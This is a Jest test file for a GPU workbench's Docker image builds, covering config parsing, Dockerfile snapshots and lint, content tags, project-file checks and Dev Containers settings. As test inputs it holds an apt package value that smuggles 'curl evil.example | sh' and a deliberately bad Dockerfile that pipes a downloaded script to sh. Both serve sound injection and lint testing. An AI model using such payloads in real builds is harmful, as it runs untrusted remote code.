/**
 * Image builds (issue 17), pure and on files: the config's `build` as a BuildSpec, the generated
 * Dockerfiles (snapshots, linted), the content-derived tag, the project files a build may read,
 * the context directory, and the Dev Containers attach settings.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { devContainerAttach } from "../../components/apps/devcontainer";
import {
  BuildSourceError,
  BuildSources,
  generatedDockerfile,
  imageBuildPlan,
  loadBuildSources,
  MAX_CONTEXT_BYTES,
  planAppBuilds,
  SHIPPED_DOCKERFILES_DIR,
  writeBuildContext,
} from "../../components/apps/imageBuild";
import { parseWorkbenchConfig, WorkbenchConfigError } from "../../components/config/parse";
import type { AppSpec } from "../../components/config/spec";
import { lintDockerfile } from "../support/dockerfileLint";
import { rawConfig } from "../support/fixtures";

const appsOf = (apps: unknown[], o: Record<string, unknown> = {}): AppSpec[] =>
  parseWorkbenchConfig(rawConfig({ apps, ...o }), { region: "koreacentral" }).apps;
const appOf = (a: Record<string, unknown>, o: Record<string, unknown> = {}): AppSpec => appsOf([a], o)[0];
const NO_SOURCES: BuildSources = { dockerfile: undefined, files: {}, shipped: {} };
const shipped = (dir: string): BuildSources["shipped"] =>
  Object.fromEntries(
    fs
      .readdirSync(path.join(SHIPPED_DOCKERFILES_DIR, dir))
      .sort()
      .map((f) => [f, fs.readFileSync(path.join(SHIPPED_DOCKERFILES_DIR, dir, f))]),
  );
const RSTUDIO_SOURCES: BuildSources = { dockerfile: undefined, files: {}, shipped: shipped("kaggle-rstudio") };

describe("the config's build, parsed", () => {
  it("kaggle-rstudio always builds its shipped Dockerfile, FROM Kaggle's R GPU image on a GPU host", () => {
    const app = appOf({ kind: "kaggle-rstudio" });
    expect(app.image).toBe("gcr.io/kaggle-gpu-images/rstats:v162");
    expect(app.gpu).toBe(true);
    expect(app.build).toEqual({
      from: "kaggle-rstudio",
      baseImage: "gcr.io/kaggle-gpu-images/rstats:v162",
      packages: [],
      aptPackages: [],
      dockerfile: undefined,
      files: [],
    });
  });

  it("FROM Kaggle's CPU R image on a CPU size", () => {
    const app = appOf({ kind: "kaggle-rstudio" }, { size: "Standard_D4s_v5" });
    expect(app.gpu).toBe(false);
    expect(app.build?.baseImage).toBe("gcr.io/kaggle-images/rstats:v162");
  });

  it("runs a given image instead of building when kaggle-rstudio names one", () => {
    const app = appOf({ kind: "kaggle-rstudio", image: "ghcr.io/acme/kaggle-rstudio:2025.1" });
    expect(app.image).toBe("ghcr.io/acme/kaggle-rstudio:2025.1");
    expect(app.build).toBeUndefined();
  });

  it("packages on a catalog kind, and a custom app with its own Dockerfile FROM a base", () => {
    const [py, lab] = appsOf([
      { kind: "kaggle-python", build: { packages: ["polars==1.8.2", "transformers[torch]>=4.44,<5"], aptPackages: ["graphviz", "htop=3.0.5-7build2"] } },
      { kind: "custom", name: "lab", port: 8000, build: { from: "jupyter-pytorch", dockerfile: "docker/lab.Dockerfile", files: ["docker/requirements.txt"] } },
    ]);
    expect(py.build).toEqual({
      from: "kaggle-python",
      baseImage: "gcr.io/kaggle-gpu-images/python:v168",
      packages: ["polars==1.8.2", "transformers[torch]>=4.44,<5"],
      aptPackages: ["graphviz", "htop=3.0.5-7build2"],
      dockerfile: undefined,
      files: [],
    });
    expect(py.image).toBe("gcr.io/kaggle-gpu-images/python:v168");
    // A custom app takes no GPU unless asked: its base is the CPU variant.
    expect(lab.build).toEqual({
      from: "jupyter-pytorch",
      baseImage: "quay.io/jupyter/pytorch-notebook:2025-08-18",
      packages: [],
      aptPackages: [],
      dockerfile: "docker/lab.Dockerfile",
      files: ["docker/requirements.txt"],
    });
    expect(lab.image).toBe("quay.io/jupyter/pytorch-notebook:2025-08-18");
  });

  it("counts a built app's base image against the OS disk", () => {
    expect(() => appOf({ kind: "custom", port: 8000, build: { from: "kaggle-python", packages: ["polars"] } }, { osDiskGb: 64 })).toThrow(
      new WorkbenchConfigError(["workbench.osDiskGb: 64 GB is too small to pull the app images (~22 GB unpacked) beside the system; set it to at least 73"]),
    );
  });
});

describe("generated Dockerfiles", () => {
  const cases: [string, Record<string, unknown>, BuildSources][] = [
    ["kaggle-rstudio as shipped", { kind: "kaggle-rstudio" }, RSTUDIO_SOURCES],
    [
      "kaggle-rstudio with CRAN and apt packages",
      { kind: "kaggle-rstudio", build: { packages: ["data.table", "arrow"], aptPackages: ["libgdal-dev"] } },
      RSTUDIO_SOURCES,
    ],
    [
      "kaggle-python with pip and apt packages",
      { kind: "kaggle-python", build: { packages: ["polars==1.8.2", "lightgbm==4.5.0"], aptPackages: ["graphviz"] } },
      NO_SOURCES,
    ],
    ["jupyter (non-root image) with apt and pip packages", { kind: "jupyter", build: { packages: ["duckdb==1.1.0"], aptPackages: ["htop"] } }, NO_SOURCES],
    ["rstudio with CRAN packages", { kind: "rstudio", build: { packages: ["tidymodels"] } }, NO_SOURCES],
    ["code-server with apt packages", { kind: "code-server", build: { aptPackages: ["python3-venv"] } }, NO_SOURCES],
    [
      "custom with its own Dockerfile",
      { kind: "custom", name: "lab", port: 8000, build: { from: "kaggle-python", dockerfile: "docker/Dockerfile", files: ["docker/app.py"] } },
      {
        dockerfile: 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY docker/app.py /srv/app.py\nCMD ["python", "/srv/app.py"]',
        files: { "docker/app.py": Buffer.from("print('hi')\n") },
        shipped: {},
      },
    ],
  ];

  it.each(cases)("%s: snapshot", (_name, raw, sources) => {
    const app = appOf(raw);
    expect(generatedDockerfile(app.build!, sources)).toMatchSnapshot();
  });

  it.each(cases)("%s: passes the Dockerfile lint (dockerfile-utils, ShellCheck, hadolint's rules)", (_name, raw, sources) => {
    expect(lintDockerfile(generatedDockerfile(appOf(raw).build!, sources))).toEqual([]);
  });

  it("the shipped Dockerfile itself passes the lint", () => {
    expect(lintDockerfile(fs.readFileSync(path.join(SHIPPED_DOCKERFILES_DIR, "kaggle-rstudio", "Dockerfile"), "utf8"))).toEqual([]);
  });

  it("the lint is not blind: a Dockerfile with one fault per rule fails every rule", () => {
    const bad = [
      "FROM ubuntu",
      "FROM ubuntu:latest",
      "ADD https://example.com/x.tar.gz /opt/",
      "RUN apt update && apt-get update && apt-get install curl",
      "RUN curl -sSL https://example.com/install.sh | sh",
      "RUN wget -q https://example.com/y && sudo pip install y",
      'RUN echo $undefined_thing > "/tmp/$(ls *.txt)"',
      'RUN ["pip", "install", "z"]',
      "EXPOSE abc",
      "CMD start.sh --now",
      "",
    ].join("\n");
    const rules = lintDockerfile(bad).map((p) => /\[([^\]]+)\]/.exec(p)![1]);
    expect([...new Set(rules)].sort()).toEqual([
      "DL3004",
      "DL3007",
      "DL3009",
      "DL3014",
      "DL3015",
      "DL3020",
      "DL3025",
      "DL3027",
      "DL3042",
      "DL4001",
      "DL4006",
      "ShellCheck",
      "curl",
      "dockerfile-utils",
    ]);
  });

  it("refuses in the renderer what the parser refuses (a hand-made BuildSpec)", () => {
    const app = appOf({ kind: "kaggle-python", build: { aptPackages: ["graphviz"] } });
    // Only a cast gets an unchecked value into a spec: the renderer refuses it all the same.
    const build = { ...app.build!, aptPackages: ["graphviz; curl evil.example | sh"] as never };
    expect(() => generatedDockerfile(build, NO_SOURCES)).toThrow(/^build: "graphviz; curl evil.example \| sh" is not a Debian package name/);
  });
});

describe("the content-derived tag", () => {
  const base = { kind: "kaggle-python", build: { packages: ["polars==1.8.2"], aptPackages: ["graphviz"] } };
  const tagOf = (raw: Record<string, unknown>, sources = NO_SOURCES) => imageBuildPlan(appOf(raw), sources).tag;

  it("is the same for the same build, every time", () => {
    const first = imageBuildPlan(appOf(base), NO_SOURCES);
    expect(first.tag).toMatch(/^gpu-workbench\/kaggle-python:[0-9a-f]{16}$/);
    expect(first.tag).toBe(`gpu-workbench/kaggle-python:${first.contentHash}`);
    expect(tagOf(base)).toBe(first.tag);
    expect(first.buildArgs).toEqual({ BASE_IMAGE: "gcr.io/kaggle-gpu-images/python:v168" });
    expect(first.labels).toEqual({ "gpu-workbench.app": "kaggle-python", "gpu-workbench.build": first.contentHash });
    expect(Object.keys(first.context)).toEqual(["Dockerfile"]);
  });

  it("changes with the package list, the apt list, the base image and the app", () => {
    const tags = [
      tagOf(base),
      tagOf({ ...base, build: { packages: ["polars==1.8.3"], aptPackages: ["graphviz"] } }),
      tagOf({ ...base, build: { packages: ["polars==1.8.2", "duckdb"], aptPackages: ["graphviz"] } }),
      tagOf({ ...base, build: { packages: ["polars==1.8.2"], aptPackages: ["graphviz", "htop"] } }),
      tagOf({ ...base, gpu: false }),
    ];
    expect(new Set(tags).size).toBe(tags.length);
    expect(tagOf({ ...base, name: "py2" })).toMatch(/^gpu-workbench\/py2:/);
  });

  it("changes with the project's Dockerfile and with a listed file's content, not with anything else", () => {
    const lab = { kind: "custom", name: "lab", port: 8000, build: { from: "jupyter", dockerfile: "Dockerfile", files: ["app.py"] } };
    const sources = (dockerfile: string, app: string): BuildSources => ({ dockerfile, files: { "app.py": Buffer.from(app) }, shipped: {} });
    const a = tagOf(lab, sources("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY app.py /srv/\n", "print(1)\n"));
    expect(tagOf(lab, sources("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY app.py /srv/\n", "print(1)\n"))).toBe(a);
    expect(tagOf(lab, sources("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY app.py /opt/\n", "print(1)\n"))).not.toBe(a);
    expect(tagOf(lab, sources("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY app.py /srv/\n", "print(2)\n"))).not.toBe(a);
  });

  it("changes with the shipped Dockerfile and start script", () => {
    const app = appOf({ kind: "kaggle-rstudio" });
    const a = imageBuildPlan(app, RSTUDIO_SOURCES);
    expect(Object.keys(a.context).sort()).toEqual(["Dockerfile", "start-rstudio.sh"]);
    const edited = { ...RSTUDIO_SOURCES, shipped: { ...RSTUDIO_SOURCES.shipped, "start-rstudio.sh": Buffer.from("#!/bin/bash\nexit 1\n") } };
    expect(imageBuildPlan(app, edited).tag).not.toBe(a.tag);
  });
});

describe("the project files a build reads", () => {
  let project = "";
  let outside = "";
  const lab = (files: string[], dockerfile = "docker/Dockerfile") =>
    appOf({ kind: "custom", name: "lab", port: 8000, build: { from: "jupyter", dockerfile, files } });

  beforeAll(() => {
    project = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "gwb-project-")));
    outside = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "gwb-outside-")));
    fs.mkdirSync(path.join(project, "docker"));
    fs.writeFileSync(path.join(project, "docker/Dockerfile"), "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY docker/app.py /srv/\n");
    fs.writeFileSync(path.join(project, "docker/app.py"), "print('hi')\n");
    fs.writeFileSync(path.join(outside, "secrets.env"), "TOKEN=x\n");
    fs.symlinkSync(path.join(outside, "secrets.env"), path.join(project, "docker/secrets.env"));
    fs.writeFileSync(path.join(project, "docker/big.bin"), Buffer.alloc(MAX_CONTEXT_BYTES + 1));
  });
  afterAll(() => {
    fs.rmSync(project, { recursive: true, force: true });
    fs.rmSync(outside, { recursive: true, force: true });
  });

  const problem = (app: AppSpec): string => {
    try {
      loadBuildSources(app.build!, project, "workbench.apps[0].build");
    } catch (e) {
      expect(e).toBeInstanceOf(BuildSourceError);
      return (e as Error).message;
    }
    throw new Error("no problem found");
  };

  it("reads the Dockerfile and the listed files", () => {
    const sources = loadBuildSources(lab(["docker/app.py"]).build!, project, "workbench.apps[0].build");
    expect(sources).toEqual({
      dockerfile: "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY docker/app.py /srv/\n",
      files: { "docker/app.py": Buffer.from("print('hi')\n") },
      shipped: {},
    });
  });

  it("refuses a missing file, a directory, a symlink out of the project and an oversized context", () => {
    expect(problem(lab([], "docker/Missing"))).toBe(
      `workbench.apps[0].build.dockerfile: "docker/Missing" does not exist in the project directory ${project}; check the path (relative to Pulumi.yaml)`,
    );
    expect(problem(lab(["docker"]))).toBe('workbench.apps[0].build.files[0]: "docker" is not a regular file; list files, not directories');
    expect(problem(lab(["docker/app.py", "docker/secrets.env"]))).toBe(
      `workbench.apps[0].build.files[1]: "docker/secrets.env" resolves to ${path.join(outside, "secrets.env")}, outside the project directory ${project}; copy the file into the project`,
    );
    expect(problem(lab(["docker/big.bin"]))).toMatch(/^workbench\.apps\[0\]\.build\.files: the build context would be \d+ bytes, over 8388608; send less/);
  });

  it("planAppBuilds raises every problem as one config error with the apps' key paths", () => {
    const apps = appsOf([
      { kind: "jupyter" },
      { kind: "custom", name: "a", port: 8000, build: { from: "jupyter", dockerfile: "docker/Missing" } },
      { kind: "custom", name: "b", port: 8001, build: { from: "jupyter", dockerfile: "docker/Dockerfile", files: ["docker/secrets.env"] } },
    ]);
    expect(() => planAppBuilds(apps, project)).toThrow(
      new WorkbenchConfigError([
        `workbench.apps[1].build.dockerfile: "docker/Missing" does not exist in the project directory ${project}; check the path (relative to Pulumi.yaml)`,
        `workbench.apps[2].build.files[0]: "docker/secrets.env" resolves to ${path.join(outside, "secrets.env")}, outside the project directory ${project}; copy the file into the project`,
      ]),
    );
  });

  it("writes the context once, named by its content hash, with only the Dockerfile and the listed files", () => {
    const app = lab(["docker/app.py"]);
    const plan = imageBuildPlan(app, loadBuildSources(app.build!, project, "workbench.apps[0].build"));
    const root = path.join(project, ".gpu-workbench/builds");
    const dir = writeBuildContext(root, plan);
    expect(dir).toBe(path.join(root, plan.contentHash));
    const list = (d: string): string[] =>
      fs
        .readdirSync(d, { withFileTypes: true })
        .flatMap((e) => (e.isDirectory() ? list(path.join(d, e.name)).map((f) => `${e.name}/${f}`) : [e.name]))
        .sort();
    expect(list(dir)).toEqual(["Dockerfile", "docker/app.py"]);
    expect(fs.readFileSync(path.join(dir, "Dockerfile"))).toEqual(plan.context.Dockerfile);
    expect(fs.readFileSync(`${dir}.complete`, "utf8")).toBe(`${plan.tag}\n`);
    // A second deployment of the same build finds it written and leaves it alone.
    const before = fs.statSync(path.join(dir, "Dockerfile")).mtimeMs;
    fs.writeFileSync(path.join(dir, "marker"), "kept");
    expect(writeBuildContext(root, plan)).toBe(dir);
    expect(fs.statSync(path.join(dir, "Dockerfile")).mtimeMs).toBe(before);
    expect(fs.existsSync(path.join(dir, "marker"))).toBe(true);
  });
});

describe("Dev Containers attach", () => {
  const apps = appsOf([
    { kind: "kaggle-python", name: "py", build: { packages: ["polars"] } },
    { kind: "rstudio" },
    { kind: "custom", name: "lab", port: 8000, build: { from: "kaggle-r", aptPackages: ["htop"] } },
  ]);

  it("points VS Code's Docker at the host through the ssh_config alias, with the attached-container config per app", () => {
    expect(devContainerAttach(apps, "mylab")).toEqual({
      py: {
        containerName: "wb-py",
        devcontainerJson: '{\n  "workspaceFolder": "/kaggle/working",\n  "extensions": [\n    "ms-python.python",\n    "ms-toolsai.jupyter"\n  ]\n}\n',
        vscodeSettings: '{\n  "docker.environment": {\n    "DOCKER_HOST": "ssh://mylab"\n  }\n}\n',
      },
      rstudio: {
        containerName: "wb-rstudio",
        devcontainerJson: '{\n  "workspaceFolder": "/home/rstudio",\n  "extensions": [\n    "REditorSupport.r"\n  ],\n  "remoteUser": "rstudio"\n}\n',
        vscodeSettings: '{\n  "docker.environment": {\n    "DOCKER_HOST": "ssh://mylab"\n  }\n}\n',
      },
      lab: {
        containerName: "wb-lab",
        devcontainerJson: '{\n  "workspaceFolder": "/data",\n  "extensions": [\n    "REditorSupport.r"\n  ]\n}\n',
        vscodeSettings: '{\n  "docker.environment": {\n    "DOCKER_HOST": "ssh://mylab"\n  }\n}\n',
      },
    });
  });

  it("leaves VS Code on its default engine for the local target", () => {
    expect(devContainerAttach(apps.slice(0, 1), undefined).py.vscodeSettings).toBe("{}\n");
  });
});
